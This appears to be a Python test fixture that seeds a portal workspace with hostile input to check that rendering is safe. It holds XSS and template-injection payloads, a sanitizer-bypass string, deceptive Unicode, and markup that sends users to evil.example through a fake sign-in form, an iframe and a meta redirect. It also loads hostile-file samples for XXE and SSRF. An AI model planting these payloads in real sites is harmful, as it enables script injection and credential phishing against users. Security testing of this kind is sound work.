"""A workspace in which everything people can name or write is hostile, from real collections where they are at hand."""

import tarfile
from collections.abc import Iterator
from itertools import islice

from portal.features.discussions import marks, services
from portal.features.discussions.models import ThreadKind
from portal.features.discussions.prepare import prepare
from portal.features.identity.models import Person
from portal.features.identity.people import add_company, add_person
from portal.features.library.services import add_file
from portal.features.library.store import keep
from portal.features.workspaces.audiences import add_circle, everyone, team
from portal.features.workspaces.models import Workspace, WorkspaceKind
from portal.features.workspaces.queries import owner_of
from portal.features.workspaces.services import join, open_workspace
from portal.kernel.access import HouseRole, Role
from portal.kernel.db import db, write
from portal.kernel.web import Refused
from tests.shared_data import DATA, lines
from tests.support.portal import Portal

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
WIDE = "W" * 300
RTL = "\u202e\u05e9\u05dc\u05d5\u05dd gnp.exe \u0645\u0631\u062d\u0628\u0627"
THIN = "\u200b\u200d\ufeff\u2060"
ZALGO = "Z" + "\u0301\u0335\u0489" * 40 + "algo"
BREAKOUT = "\"'></title></textarea></template><svg/onload=alert(1)>{{7*7}}${7*7}"
OWN = [
    SCRIPT,
    IMAGE,
    WIDE,
    RTL,
    THIN + "a",
    ZALGO,
    BREAKOUT,
    "[go](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button>Sign in again</button></form>",
    f"| {WIDE} | b |\n|---|---|\n| {WIDE} | `{WIDE}` |\n\n```\n{WIDE}\n```\n\n{'> ' * 40}deep\n\n{'- ' * 40}deeper",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]
COLLECTIONS = {"xss": 40, "html_sanitize_dompurify": 4, "naughty_strings": 10}  # every how many-th stands alone
OPENED = [
    "script_0.svg",
    "script_1.svg",
    "xxe.svg",
    "page.html",
    "page.xhtml",
    "html_as.png",
    "html_as.pdf",
    "gif_js.gif",
    "pdf_html.pdf",
]
OPENED += ["pdf_js.pdf", "ssrf_remote_image.html", "page_utf7.txt"]


def collected(*, every: bool = False) -> Iterator[str]:
    """Our own strings, and of each collection each so-many-th, or all."""
    yield from OWN
    for name, step in COLLECTIONS.items():
        path = f"hostile_text/{name}.jsonl"
        if (DATA / path).exists():
            yield from (line["payload"] for line in islice(lines(path), 0, None, 1 if every else step))


def hostile_files() -> dict[str, bytes]:
    """Files that are more, or other, than they say."""
    found = {"own.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()}
    found |= {"own.html": f"<!doctype html>{SCRIPT}<img src=https://evil.example/x.png>".encode()}
    archive = DATA / "hostile_files.tar.xz"
    if archive.exists():
        with tarfile.open(archive) as packed:
            for name in OPENED:
                member = packed.extractfile(f"hostile_files/{name}")
                found[name] = member.read() if member else b""
    return found


def dig(portal: Portal) -> str:
    """Make it; `villain` (staff, the owner) and `victim` (a customer) join the cast. Gives its address."""
    with write():
        villain = add_person(
            name=f"{SCRIPT} {WIDE[:60]}", email="villain@northwind.example", title=IMAGE, house_role=HouseRole.STAFF
        )
        victim = add_person(name=RTL + ZALGO, email="victim@den.example", title=WIDE[:120])
        place = open_workspace(
            by=villain, name=BREAKOUT, kind=WorkspaceKind.DEAL, company=IMAGE + WIDE[:80], purpose=SCRIPT + WIDE
        )
        portal.cast.people |= {"villain": villain.id, "victim": victim.id}
        portal.cast.workspaces["den"] = place.id
        _invite(place, victim)
    _talk(place)
    _shelve(place)
    return f"/w/{place.public_id}"


def _invite(place: Workspace, victim: Person) -> None:
    owner = owner_of(place)
    company = add_company(RTL + WIDE[:50])
    guest = join(by=owner, workspace=place, person=victim, company=company, role=Role.CHAMPION, invitation=None)
    add_circle(by=owner, workspace=place, name=SCRIPT + WIDE[:60], closed=False, members=[guest])


def _talk(place: Workspace) -> None:
    """A thread with a post for each string, threads with all of them in lots, and titles of every kind."""
    owner, wide = owner_of(place), everyone(place)
    alone = [prepare(text, wide) for text in collected()]
    whole = list(collected(every=True))
    lots = [prepare("\n\n".join(whole[at : at + 120])[:50_000], wide) for at in range(0, len(whole), 120)]
    with write():
        for number, bodies in enumerate((alone, lots)):
            kind = ThreadKind.QUESTION if number else ThreadKind.DISCUSSION
            title = OWN[number] + OWN[6]
            thread = services.start_thread(by=owner, audience=wide, kind=kind, title=title, words=bodies[0])
            for words in bodies[1:]:
                if words.body.strip():
                    marks.react(by=owner, post=services.post(by=owner, thread=thread, words=words), word="agree")
        for title in collected():
            try:
                services.start_thread(
                    by=owner, audience=team(place), kind=ThreadKind.DISCUSSION, title=title[:200], words=alone[0]
                )
            except Refused:
                continue  # nothing of it can be seen, so it names nothing


def _shelve(place: Workspace) -> None:
    owner, wide = owner_of(place), everyone(place)
    named = [(f"{text[:180]}.txt", b"Words") for text in OWN] + list(hostile_files().items())
    path = "hostile_filenames.jsonl"
    named += [(line["filename"], b"x") for line in islice(lines(path), 60)] if (DATA / path).exists() else []
    contents = [keep(place.public_id, name, [content], limit=10_000_000) for name, content in named]
    with write():
        actor = owner.person.actor()
        for content in contents:
            add_file(by=actor, workspace=place, audience=wide, folder=None, content=content)
    db.session.expire_all()
